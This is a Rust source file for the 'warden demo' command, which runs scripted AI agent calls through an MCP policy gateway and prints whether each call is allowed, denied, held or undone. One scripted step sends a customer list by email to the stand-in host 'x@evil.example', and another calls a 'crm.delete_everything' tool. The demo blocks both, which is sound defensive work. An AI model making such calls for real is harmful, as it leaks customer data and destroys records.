//! `warden demo`: the quickstart, served in-process, driven by a scripted agent session over
//! real MCP (Streamable HTTP), with a table of what Warden decided for each call.

use anyhow::Context;
use rmcp::ServiceExt;
use rmcp::model::{CallToolRequestParams, CallToolResult};
use rmcp::transport::StreamableHttpClientTransport;
use rmcp::transport::streamable_http_client::StreamableHttpClientTransportConfig;
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;
use warden_core::Config;
use warden_server::AppState;

/// One scripted call: who, what, on whose behalf, and why it is in the script.
struct Step {
    agent: &'static str,
    user: Option<&'static str>,
    tool: &'static str,
    args: Value,
    shows: &'static str,
}

fn script() -> Vec<Step> {
    vec![
        Step {
            agent: "support-bot",
            user: None,
            tool: "crm.search_customers",
            args: json!({"query": "a", "limit": 2}),
            shows: "allow by role",
        },
        Step {
            agent: "support-bot",
            user: None,
            tool: "payments.refund",
            args: json!({"amount": 1500, "currency": "EUR", "customer_id": "C001"}),
            shows: "deny by role",
        },
        Step {
            agent: "refund-bot",
            user: None,
            tool: "payments.refund",
            args: json!({"amount": 1500, "currency": "EUR", "customer_id": "C001"}),
            shows: "allow: small refund",
        },
        Step {
            agent: "refund-bot",
            user: None,
            tool: "payments.refund",
            args: json!({"amount": 20000, "currency": "EUR", "customer_id": "C001"}),
            shows: "held for approval",
        },
        Step {
            agent: "refund-bot",
            user: None,
            tool: "payments.refund",
            args: json!({"amount": 90000, "currency": "EUR", "customer_id": "C001"}),
            shows: "deny by argument",
        },
        Step {
            agent: "support-bot",
            user: Some("alice"),
            tool: "crm.update_customer",
            args: json!({"customer_id": "C002", "phone": "+1 555 0100"}),
            shows: "delegation: alice may",
        },
        Step {
            agent: "support-bot",
            user: Some("bob"),
            tool: "crm.update_customer",
            args: json!({"customer_id": "C002", "phone": "+1 555 0199"}),
            shows: "delegation: bob may not",
        },
        Step {
            agent: "insights-bot",
            user: None,
            tool: "crm.update_customer",
            args: json!({"customer_id": "C002", "tier": "gold"}),
            shows: "read-only mode",
        },
        Step {
            agent: "drafting-bot",
            user: None,
            tool: "email.send",
            args: json!({"to": "c001@example.com", "subject": "Your refund", "body": "Hello"}),
            shows: "suggest mode",
        },
        Step {
            agent: "support-bot",
            user: None,
            tool: "email.send",
            args: json!({"to": "x@evil.example", "subject": "list", "body": "all customers"}),
            shows: "deny by argument",
        },
        Step {
            agent: "support-bot",
            user: None,
            tool: "email.send",
            args: json!({"to": "c002@example.com", "subject": "Updated", "body": "Done"}),
            shows: "allow: irreversible",
        },
        Step {
            agent: "support-bot",
            user: None,
            tool: "crm.delete_everything",
            args: json!({}),
            shows: "unknown tool",
        },
    ]
}

pub async fn run() -> anyhow::Result<()> {
    let dir = tempfile::tempdir().context("cannot create a temporary directory")?;
    crate::serve::write_quickstart(dir.path())?;
    let mut config =
        Config::load(&dir.path().join("warden.toml")).map_err(|d| anyhow::anyhow!("{d}"))?;
    crate::serve::resolve_self_command(&mut config);

    println!(
        "Warden demo: the quickstart config (examples/quickstart) with built-in sample upstreams.\n"
    );
    let assembled = warden_server::assemble(config)
        .await
        .map_err(|e| anyhow::anyhow!("{e}"))?;
    let gateway = assembled.gateway.clone();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
    let url = format!("http://{}/mcp", listener.local_addr()?);
    let shutdown = CancellationToken::new();
    let server = tokio::spawn(warden_server::serve(
        listener,
        AppState {
            gateway: gateway.clone(),
        },
        shutdown.clone(),
    ));

    let mut keys = std::collections::BTreeMap::new();
    for agent in ["support-bot", "refund-bot", "insights-bot", "drafting-bot"] {
        let (_, secret) = gateway.create_agent_key(agent, "demo").await?;
        keys.insert(agent, secret.secret);
    }

    for agent in ["support-bot", "insights-bot"] {
        let client = connect(&url, &keys[agent]).await?;
        let tools = client.list_all_tools().await?;
        let names: Vec<&str> = tools.iter().map(|t| t.name.as_ref()).collect();
        println!("{agent} sees {} tools: {}", names.len(), names.join(", "));
        client.cancel().await.ok();
    }
    println!();
    println!(
        "{:<13} {:<7} {:<22} {:<24} {:<9} {:<40} EVENT",
        "AGENT", "USER", "CALL", "SHOWS", "DECISION", "DECIDING POLICY"
    );
    let mut rows = 0;
    // The events of the steps the demo undoes afterwards.
    let mut undoable = Vec::new();
    for step in script() {
        let client = connect(&url, &keys[step.agent]).await?;
        let mut params = CallToolRequestParams::new(step.tool);
        params.arguments = step.args.as_object().cloned();
        if let Some(user) = step.user {
            let mut meta = rmcp::model::RequestMetaObject::default();
            meta.insert("user".into(), json!(user));
            params.meta = Some(meta);
        }
        let result = client
            .call_tool(params)
            .await
            .context("the MCP call failed")?;
        let (outcome, policies, event) = warden_meta(&result);
        println!(
            "{:<13} {:<7} {:<22} {:<24} {:<9} {:<40} {}",
            step.agent,
            step.user.unwrap_or("-"),
            step.tool,
            step.shows,
            outcome,
            if policies.is_empty() {
                "-".to_owned()
            } else {
                policies.join(",")
            },
            event
        );
        client.cancel().await.ok();
        rows += 1;
        if outcome == "allow"
            && matches!(
                step.shows,
                "allow: small refund" | "delegation: alice may" | "allow: irreversible"
            )
        {
            undoable.push((step.tool, event));
        }
    }

    println!(
        "\nUndo, as an operator (`warden undo EVENT`): each runs through the pipeline as the original agent."
    );
    for (tool, event) in &undoable {
        let line = match gateway
            .undo(event, "demo", warden_gateway::Channel::Cli)
            .await
        {
            Ok(r) => format!(
                "{} by event {} ({})",
                r.outcome.as_str(),
                r.event_id,
                r.explanation()
            ),
            Err(refusal) => format!("refused: {refusal}"),
        };
        println!("undo {tool:<20} {event}  {line}");
    }
    let committed = assembled.store.recent(1000).await?.len();
    println!(
        "\n{rows} calls, each answered after its audit event was committed ({committed} events in the log, including key issuance)."
    );
    println!("Try it yourself: `warden init demo && cd demo && warden serve`.");

    shutdown.cancel();
    let _ = server.await;
    assembled.shutdown().await;
    Ok(())
}

async fn connect(
    url: &str,
    key: &str,
) -> anyhow::Result<rmcp::service::RunningService<rmcp::RoleClient, ()>> {
    let transport = StreamableHttpClientTransport::from_config(
        StreamableHttpClientTransportConfig::with_uri(url.to_owned()).auth_header(key.to_owned()),
    );
    ().serve(transport)
        .await
        .context("cannot open an MCP session with the gateway")
}

/// The decision Warden attached to a result: outcome, deciding policies, event id.
fn warden_meta(result: &CallToolResult) -> (String, Vec<String>, String) {
    let w = result
        .meta
        .as_ref()
        .and_then(|m| m.get("warden"))
        .cloned()
        .unwrap_or(Value::Null);
    let outcome = match w["outcome"].as_str().unwrap_or("?") {
        "ok" | "tool_error" => "allow",
        "denied" => "deny",
        other => other,
    }
    .to_owned();
    let policies = w["policies"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(Value::as_str)
        .map(str::to_owned)
        .collect();
    (
        outcome,
        policies,
        w["event_id"].as_str().unwrap_or("?").to_owned(),
    )
}
